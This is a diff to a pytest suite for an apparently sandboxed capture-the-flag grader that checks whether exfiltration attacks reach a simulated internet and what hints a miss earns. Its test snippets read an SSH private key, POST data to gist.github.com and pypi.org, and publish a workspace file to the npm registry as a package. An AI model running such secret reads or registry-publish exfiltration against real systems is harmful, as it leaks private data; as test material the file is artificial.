@@ -1,4 +1,5 @@
-"""Capture the flag, for real: every reference attack captures its level, none captures the final one, a miss gets the next hint.
+"""Capture the flag, for real: every reference attack captures its level, none captures the scoped one, a miss gets a
+hint from what the attack did (or, where the logs show nothing, the next hint).
 
 The flag is fresh for every run and the capture is judged only from what the
 simulated internet logged (``ctf.judge`` over ``execution.sightings``).
@@ -8,33 +9,37 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
-from typing import Any
+from typing import Any, Optional
 
 import pytest
 
 from grader.cli import main as cli
+from grader.core.policy import Policy, load_policy
 from grader.ctf.ladder import attack, level, load_levels
 
 pytestmark = [pytest.mark.docker]
 
 ATTACKS = Path(__file__).resolve().parents[2] / "solutions" / "attacks"
 LEVELS = load_levels()
-FINAL = LEVELS[-1]
-REFERENCE = {lv.number: ATTACKS / f"level-{lv.number:02d}.py" for lv in LEVELS[:-1]}
+FINAL = next(lv for lv in LEVELS if lv.uncapturable is not None)  # the correctly scoped level
+REFERENCE = {lv.number: ATTACKS / f"level-{lv.number:02d}.py" for lv in LEVELS if lv.uncapturable is None}
 WRONG = "print(open('/home/user/.ssh/id_rsa').read()[:40])  # reads the key, sends it nowhere\n"
 
 
 def _levels() -> list[Any]:
-    out = []
-    for lv in LEVELS[:-1]:
-        out.append(pytest.param(lv.number, id=f"{lv.number:02d}-{lv.id}"))
-    return out
+    return [pytest.param(lv.number, id=f"{lv.number:02d}-{lv.id}") for lv in LEVELS if lv.uncapturable is None]
+
+
+def _policy(number: int) -> Optional[Policy]:
+    """The capstone's reference policy (the tightest for its job); None for every level with its own sandbox."""
+    path = ATTACKS / f"level-{number:02d}.policy.json"
+    return load_policy(str(path)) if level(number).capstone is not None else None
 
 
 @pytest.mark.parametrize("number", _levels())
 def test_the_reference_attack_captures_its_level(number: int, docker_backend: Any, no_leftovers: None) -> None:
     lv = level(number)
-    result = attack(lv, REFERENCE[number].read_text(encoding="utf-8"), docker_backend)
+    result = attack(lv, REFERENCE[number].read_text(encoding="utf-8"), docker_backend, policy=_policy(number))
     assert result.captured, (result.output[-2000:], result.elsewhere, result.note)
     assert result.sinks and all(s.evidence for s in result.sinks) and result.hint == ""
     assert not result.note, result.note  # every recorder answered: the silence elsewhere means something
@@ -45,7 +50,34 @@ def test_no_reference_attack_captures_the_final_level(number: int, docker_backen
     result = attack(FINAL, REFERENCE[number].read_text(encoding="utf-8"), docker_backend)
     assert not result.captured and result.sinks == () and result.elsewhere == (), result.output[-2000:]
     assert result.note == "", "a recorder failed: silence would prove nothing"
-    assert result.hint in FINAL.hints
+    assert result.hint in FINAL.hints or result.hint_from == "evidence", result.hint
+
+
+def test_a_flagless_post_to_an_allowed_upload_host_gets_a_hint_naming_that_host(docker_backend: Any, no_leftovers: None) -> None:
+    """The hint is read from the records that judged the miss: the gist host logged the POST, the proxy its refusal."""
+    code = ("import urllib.request\n"
+            "for url in ('https://gist.github.com/', 'https://pypi.org/simple/'):\n"
+            "    try:\n"
+            "        urllib.request.urlopen(urllib.request.Request(url, data=b'hello', method='POST'), timeout=5)\n"
+            "    except Exception as exc:\n"
+            "        print(url, exc)\n")
+    result = attack(level(2), code, docker_backend)
+    assert result.captured is False and result.hint_from == "evidence", (result.hint, result.output[-2000:])
+    assert "The proxy refused pypi.org: not in the allowed list." in result.hint
+    assert "Your POST / reached gist.github.com, which keeps what it is sent" in result.hint and "the flag was not in it" in result.hint
+
+
+def test_the_scoped_levels_why_says_an_npm_publish_was_accepted_and_no_secret(docker_backend: Any, no_leftovers: None) -> None:
+    assert FINAL.uncapturable is not None
+    publish = ("import json, urllib.request\n"
+               "body = json.dumps({'name': 'ws-copy', 'readme': open('/app/workspace/package.json').read()}).encode()\n"
+               "print(urllib.request.urlopen(urllib.request.Request('https://registry.npmjs.org/ws-copy', data=body, method='PUT',"
+               " headers={'Content-Type': 'application/json'}), timeout=5).status)\n")
+    result = attack(FINAL, publish, docker_backend, attempts_before=FINAL.uncapturable.after - 1)
+    assert result.captured is False, result.output[-2000:]
+    assert result.hint.startswith("Your PUT /ws-copy reached registry.npmjs.org, which keeps what it is sent"), result.hint
+    assert "what left was no secret" in result.hint and result.hint.endswith(FINAL.uncapturable.why)
+    assert "no secret can leave" not in result.hint.lower()
 
 
 def test_the_http_reference_attack_does_not_capture_the_dns_level(docker_backend: Any, no_leftovers: None) -> None:
